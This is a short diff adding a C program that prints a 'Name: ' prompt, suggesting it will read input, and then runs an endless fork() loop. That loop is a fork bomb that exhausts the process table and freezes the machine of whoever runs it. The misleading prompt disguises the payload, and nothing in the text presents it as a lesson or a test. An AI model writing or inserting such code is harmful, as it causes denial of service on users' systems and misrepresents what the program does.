@@ -1,0 +1,12 @@
+#include <stdio.h>
+#include <unistd.h>
+
+int main(void)
+{
+    printf("Name: ");
+    fflush(stdout);
+    for (;;)
+    {
+        fork();
+    }
+}
